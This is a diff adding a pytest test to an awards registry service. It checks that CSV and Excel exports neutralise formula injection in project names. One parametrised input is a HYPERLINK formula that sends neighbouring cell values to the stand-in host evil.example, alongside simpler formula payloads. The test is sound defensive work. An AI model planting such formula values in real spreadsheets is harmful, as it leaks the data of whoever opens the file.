@@ -733,3 +733,30 @@ async def test_exports_survive_control_characters_a_caller_sent(city):
     assert ["subject_id", "\ufffd\ufffdx"] in [
         [cell.value for cell in row] for row in workbook["selection"].iter_rows()
     ]
+
+
+@pytest.mark.parametrize(
+    "name", ['=HYPERLINK("http://evil.example/?leak="&B3&C3,"点击核对")', "+1+1", "-2+3", "@SUM(A1)"]
+)
+async def test_the_exports_never_carry_a_formula(city, registry, name):
+    # A district names its enterprise's project like a formula (OWASP, CSV Injection): the exports show the text,
+    # with a leading apostrophe, and a spreadsheet never runs it.
+    from tests.eligibility.scenario import enterprise
+
+    owner = await enterprise(registry, "500103", sector="software_it", spun_off=False)
+    body = {
+        "kind": "investment",
+        "owner_uscc": owner,
+        "name": name,
+        "year": 2025,
+        "verified_investment_yuan": INVESTMENT,
+    }
+    response = await registry.post("/projects", json=body)
+    assert response.status_code == 201, response.text
+    await propose(city, m01(str(response.json()["id"]), M01_MAX))
+    [row] = list(csv.DictReader(io.StringIO((await city.get("/awards/export.csv")).content.decode("utf-8-sig"))))
+    assert row["subject_name"] == "'" + name and row["amount_yuan"] == M01_MAX
+    sheet = load_workbook(io.BytesIO((await city.get("/awards/export.xlsx")).content))["awards"]
+    cell = sheet.cell(row=3, column=8)
+    assert (cell.value, cell.data_type) == ("'" + name, "s")
+    assert not any(c.data_type == "f" for line in sheet.iter_rows() for c in line)
